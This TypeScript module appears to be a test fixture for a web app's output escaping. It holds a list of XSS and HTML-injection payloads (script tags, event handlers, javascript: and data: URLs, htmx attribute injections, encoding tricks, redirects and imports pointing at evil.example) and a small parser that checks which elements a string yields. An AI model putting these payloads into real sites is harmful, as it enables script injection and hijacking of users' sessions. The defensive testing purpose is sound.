/** Texts that have broken out of other programs' pages. */
export const PAYLOADS = [
  "<script>pwn()</script>",
  "</script><script>pwn()</script>",
  "<img src=x onerror=pwn()>",
  '"><img src=x onerror=pwn()>',
  "'><img src=x onerror=pwn()>",
  '" onmouseover="pwn()',
  "' onmouseover='pwn()",
  '" autofocus onfocus="pwn()',
  "` onmouseover=`pwn()",
  "x onmouseover=pwn()",
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg/onload=pwn()>",
  "<math><mtext></mtext><script>pwn()</script></math>",
  "<iframe srcdoc='<script>pwn()</script>'>",
  "<body onload=pwn()>",
  "<details open ontoggle=pwn()>",
  "<video><source onerror=pwn()></video>",
  "<marquee onstart=pwn()>",
  "<form action=//evil.example><button>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<style>@import '//evil.example'</style>",
  "<object data=javascript:pwn()>",
  "<embed src=javascript:pwn()>",
  "<div hx-post=/pwn hx-trigger=load>",
  '"><div hx-get="/pwn" hx-trigger="load">',
  '" hx-post="/pwn" hx-trigger="load',
  "<div data-hx-post=/pwn data-hx-trigger=load>",
  "<hx-partial hx-target=body>pwn</hx-partial>",
  "<div hx-on:click=pwn()>",
  "</textarea><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "</option></select><script>pwn()</script>",
  "</template><script>pwn()</script>",
  "</table><script>pwn()</script>",
  "</dialog></main><script>pwn()</script>",
  "<!--><script>pwn()</script>-->",
  "<![CDATA[<script>pwn()</script>]]>",
  "<?xml version='1.0'?><script>pwn()</script>",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "&#60;script&#62;pwn()",
  "&quot; onfocus=&quot;pwn()",
  "\u003cscript\u003epwn()",
  "\uff1cscript\uff1epwn()",
  "<scr\u0000ipt>pwn()</scr\u0000ipt>",
  "<\u0000script>pwn()",
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  " javascript:pwn()",
  "\u0001javascript:pwn()",
  "java\tscript:pwn()",
  "java\nscript:pwn()",
  "java\r\nscript:pwn()",
  "\u00a0javascript:pwn()",
  "javascript\t:pwn()",
  "javascript&colon;pwn()",
  "&#106;avascript:pwn()",
  "vbscript:pwn()",
  "data:text/html,<script>pwn()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
  "blob:https://thread.example/1",
  "file:///etc/passwd",
  "view-source:https://thread.example/",
  "feed:javascript:pwn()",
  "constructor",
  "__proto__",
];

interface Element {
  tag: string;
  attributes: Map<string, string>;
}

const TAG = /<([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>/gi;
const ATTRIBUTE = /([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g;

/** The elements that a browser would make of this text, in order, with their attributes. */
export function shapeOf(html: string): Element[] {
  return [...html.matchAll(TAG)].map(([, tag, rest]) => ({
    tag: tag!.toLowerCase(),
    attributes: new Map(
      [...rest!.matchAll(ATTRIBUTE)].map(([, name, double, single, bare]) => [
        name!.toLowerCase(),
        decoded(double ?? single ?? bare ?? ""),
      ]),
    ),
  }));
}

function decoded(value: string): string {
  const names: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', colon: ":" };
  return value.replace(/&(?:#(\d+)|#x([0-9a-f]+)|([a-z]+));/gi, (whole, decimal, hex, name) => {
    if (decimal) return String.fromCodePoint(Number(decimal));
    if (hex) return String.fromCodePoint(parseInt(hex, 16));
    return names[name] ?? whole;
  });
}
